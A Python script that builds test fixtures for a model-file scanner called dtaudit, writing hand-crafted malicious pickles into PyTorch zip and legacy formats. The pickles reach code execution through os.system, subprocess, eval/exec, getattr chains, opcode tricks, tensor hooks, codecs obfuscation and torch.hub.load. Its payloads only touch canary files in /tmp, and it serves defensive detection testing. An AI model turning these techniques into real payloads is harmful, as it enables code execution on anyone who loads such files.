#!/usr/bin/env python3
"""Generate tests/fixtures/malicious/: hostile pickles dtaudit must flag without running.

Each payload, if a real unpickler executed it, would create /tmp/dtaudit-canary-<technique>.
Files are torch zips (archive/data.pkl + archive/version, plus data/0 when a tensor is
involved) named <technique>.pt, some also as raw legacy streams <technique>.legacy.pt.
Files named reject-*.pt are malformed on purpose: dtaudit must refuse them (exit 2).
tests/cli/malicious.sh runs dtaudit on every file. Never unpickle these files.
"""
import os
import struct
import zipfile

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "fixtures", "malicious")


def canary(t):
    return "/tmp/dtaudit-canary-" + t


def U(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def SU(s):  # SHORT_BINUNICODE (protocol 4)
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def G(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def sh(t):
    return "touch " + canary(t)


def py(t):
    return "__import__('os').system('touch %s')" % canary(t)


P2 = b"\x80\x02"
P4 = b"\x80\x04"


def tensor_with_hooks(hooks):
    """A real _rebuild_tensor_v2 call whose backward_hooks argument is the payload."""
    return (G("torch._utils", "_rebuild_tensor_v2") + b"((" + U("storage") + G("torch", "FloatStorage") +
            U("0") + U("cpu") + b"K\x01tQK\x00K\x01\x85K\x01\x85\x89" + hooks + b"tR")


def techniques():
    T = {}
    T["os_system"] = P2 + G("os", "system") + U(sh("os_system")) + b"\x85R."
    T["posix_system"] = P2 + G("posix", "system") + U(sh("posix_system")) + b"\x85R."
    T["nt_system"] = P2 + G("nt", "system") + U(sh("nt_system")) + b"\x85R."
    T["subprocess_popen"] = (P2 + G("subprocess", "Popen") + b"]" + b"(" + U("touch") +
                             U(canary("subprocess_popen")) + b"e\x85R.")
    T["builtins_eval"] = P2 + G("builtins", "eval") + U(py("builtins_eval")) + b"\x85R."
    T["builtins_exec"] = P2 + G("builtins", "exec") + U(py("builtins_exec")) + b"\x85R."
    T["py2_builtin_eval"] = P2 + G("__builtin__", "eval") + U(py("py2_builtin_eval")) + b"\x85R."
    T["builtins_import"] = (P2 + G("builtins", "getattr") + G("builtins", "__import__") + U("os") +
                            b"\x85R" + U("system") + b"\x86R" + U(sh("builtins_import")) + b"\x85R.")
    T["getattr_chain_py2"] = (P2 + G("__builtin__", "getattr") + G("__builtin__", "__import__") + U("os") +
                              b"\x85R" + U("system") + b"\x86R" + U(sh("getattr_chain_py2")) + b"\x85R.")
    # module and name assembled on the stack from memoised strings
    T["stack_global_memo"] = (P4 + SU("os") + b"\x94" + SU("system") + b"\x94" + b"h\x00h\x01\x93" +
                              SU(sh("stack_global_memo")) + b"\x85R.")
    T["inst_opcode"] = P2 + b"(" + U(sh("inst_opcode")) + b"ios\nsystem\n."
    T["obj_opcode"] = P2 + b"(" + G("os", "system") + U(sh("obj_opcode")) + b"o."
    T["newobj"] = P2 + G("subprocess", "Popen") + b"(" + U("touch") + U(canary("newobj")) + b"l\x85\x81."
    T["newobj_ex"] = (P4 + G("subprocess", "Popen") + b"(" + SU("touch") + SU(canary("newobj_ex")) +
                      b"l\x85}\x92.")
    # BUILD: set __setstate__ to os.system on an instance, then BUILD again with the command
    T["build_setstate"] = (P2 + G("argparse", "Namespace") + b")R}" + U("__setstate__") +
                           G("os", "system") + b"sb" + U(sh("build_setstate")) + b"b.")
    T["tensor_hooks"] = (P2 + b"}" + U("w") +
                         tensor_with_hooks(G("os", "system") + U(sh("tensor_hooks")) + b"\x85R") + b"s.")
    T["tensor_metadata"] = (P2 + b"}" + U("w") + G("torch._utils", "_rebuild_tensor_v2") + b"((" +
                            U("storage") + G("torch", "FloatStorage") + U("0") + U("cpu") +
                            b"K\x01tQK\x00K\x01\x85K\x01\x85\x89" + G("collections", "OrderedDict") + b")R" +
                            b"}" + U("x") + G("builtins", "exec") + U(py("tensor_metadata")) + b"\x85Rs" +
                            b"tRs.")
    T["ext_opcode"] = P2 + b"\x82\x01" + U(sh("ext_opcode")) + b"\x85R."
    T["codecs_decode_exec"] = (P2 + G("builtins", "exec") + G("_codecs", "decode") +
                               U(py("codecs_decode_exec").encode().hex()) + U("hex") + b"\x86R\x85R.")
    T["codecs_encode_allowed_then_exec"] = (P2 + G("builtins", "exec") + G("_codecs", "encode") +
                                            U(py("codecs_encode_allowed_then_exec")) + U("latin1") + b"\x86R\x85R.")
    T["operator_attrgetter"] = (P2 + G("operator", "attrgetter") + U("system") + b"\x85R" +
                                G("builtins", "__import__") + U("os") + b"\x85R\x85R" +
                                U(sh("operator_attrgetter")) + b"\x85R.")
    T["runpy_run_code"] = P2 + G("runpy", "_run_code") + U(py("runpy_run_code")) + b"}\x86R."
    T["pip_main"] = P2 + G("pip", "main") + b"(" + U("install") + U(canary("pip_main")) + b"l\x85R."
    T["torch_hub_load"] = P2 + G("torch.hub", "load") + U("attacker/repo") + U(sh("torch_hub_load")) + b"\x86R."
    T["functools_partial"] = (P2 + G("functools", "partial") + G("os", "system") + U(sh("functools_partial")) +
                              b"\x86R)R.")
    # a pickle inside the pickle
    inner = P2 + G("os", "system") + U(sh("pickle_loads")) + b"\x85R."
    T["pickle_loads"] = P2 + G("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R."
    T["webbrowser_open"] = P2 + G("webbrowser", "open") + U("file://" + canary("webbrowser_open")) + b"\x85R."
    # malformed on purpose: must be refused, never half-run
    T["reject-memo_confusion"] = P2 + G("os", "system") + b"q\x00h\x07" + U(sh("memo_confusion")) + b"\x85R."
    T["reject-stack_underflow"] = P2 + G("os", "system") + b"RR."
    return T


def write_zip(path, pkl, with_storage):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pkl)
        if with_storage:
            z.writestr("archive/data/0", bytes(4))
        z.writestr("archive/version", "3\n")


def write_legacy(path, pkl):
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19\x2e"
    proto = b"\x80\x02M\xe9\x03."
    sysinfo = (b"\x80\x02}(" + U("protocol_version") + b"M\xe9\x03" + U("little_endian") + b"\x88" +
               U("type_sizes") + b"}(" + U("short") + b"K\x02" + U("int") + b"K\x04" + U("long") +
               b"K\x08u" + b"u.")
    keys = b"\x80\x02]."
    with open(path, "wb") as f:
        f.write(magic + proto + sysinfo + pkl + keys)


def main():
    os.makedirs(OUT, exist_ok=True)
    legacy = {"os_system", "builtins_eval", "getattr_chain_py2", "subprocess_popen", "inst_opcode",
              "pickle_loads", "runpy_run_code"}
    for name, pkl in techniques().items():
        write_zip(os.path.join(OUT, name + ".pt"), pkl, name.startswith("tensor_"))
        if name in legacy:
            write_legacy(os.path.join(OUT, name + ".legacy.pt"), pkl)
    print("wrote", len(os.listdir(OUT)), "files to", os.path.normpath(OUT))


if __name__ == "__main__":
    main()
